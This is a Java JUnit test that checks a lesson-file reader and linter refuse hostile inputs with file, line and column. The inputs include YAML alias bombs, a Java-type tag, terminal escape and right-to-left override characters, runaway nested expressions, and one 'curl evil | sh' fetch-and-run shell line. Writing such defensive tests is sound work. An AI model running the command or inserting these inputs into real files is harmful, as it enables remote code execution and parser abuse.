package sandstore.lessons.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import sandstore.lab.Lab;
import sandstore.lab.LabSettings;

/** Whatever a file tries, it is refused with file, line and column, and nothing of it is run. */
class HostileLessonTest {
  private static final String CHECK = "leader != '' && leader != 'node1'";

  @TempDir Path home;
  private Lab lab;

  @BeforeEach
  void open() {
    lab = new Lab(new LabSettings(home, Path.of("/no/java"), "", List.of(), home));
  }

  @AfterEach
  void close() {
    lab.close();
  }

  static Stream<Arguments> tricks() {
    String macros = "nodes.all(a, nodes.all(b, nodes.all(c, nodes.all(d, nodes.all(e, a != e)))))";
    String sums = ("\n  + " + "1 + ".repeat(100) + "1").repeat(12);
    String seen = "seen('Applied', event.to > 0) && ".repeat(9) + "true";
    return Stream.of(
        trick("a list that refers to itself", "title: ", "bomb: &a [*a, *a, *a]\ntitle: ", 4),
        trick("a key twice", "title: ", "id: another\ntitle: ", 4),
        trick("a document in a document", "minutes: 10", "minutes: !!java.net.URL [x]", 7),
        trick("a number that is none", "nodes: 3", "nodes: 999999999999999999", 6),
        trick("an escape in the title", "title: ", "title: \u001b]0;owned\u0007", 4),
        trick("an escape in prose", "Say what was", "\u001b[2J Say what was", 44),
        trick("text that turns round", "Say what was", "\u202eSay what was", 44),
        trick("macros in macros", CHECK, macros, 36),
        trick("a condition without end", CHECK, "0 == 1" + sums, 36),
        trick("brackets in brackets", CHECK, "(".repeat(400) + "true" + ")".repeat(400), 36),
        trick("too much to watch for", CHECK, seen, 36),
        trick("a command of the system", "kill all", "bash -c 'curl evil | sh'", 54),
        trick("a lesson that plays itself", "kill all", "lesson reset", 54),
        trick("a file somewhere else", "```hint", "```exhibit file=/etc/x.md\n```\n```hint", 39),
        trick("patience without end", "within=10s", "within=99999m", 33),
        trick("a later format", "format: 1", "format: 2", 2));
  }

  private static Arguments trick(String name, String from, String to, int line) {
    return Arguments.of(name, from, to, line);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("tricks")
  void isRefused(String name, String from, String to, int line) throws IOException {
    String text = skeleton();
    assertThat(text).contains(from);

    List<String> mistakes = mistakes(text.replace(from, to));

    assertThat(mistakes).as(name).isNotEmpty();
    assertThat(mistakes.get(0)).matches("evil\\.md:" + line + ":[0-9]+: [^\\p{Cntrl}]+");
  }

  private static String skeleton() throws IOException {
    try (var in = HostileLessonTest.class.getResourceAsStream("/sandstore/lessons/skeleton.md")) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private List<String> mistakes(String text) {
    List<Mistake> mistakes;
    try {
      Lesson lesson = LessonReader.read("evil.md", text);
      mistakes = Linter.lint(lesson, lab::mistakeIn, Set.of("first-hour"));
    } catch (BadLesson e) {
      mistakes = e.mistakes();
    }
    return mistakes.stream().map(Mistake::toString).toList();
  }
}
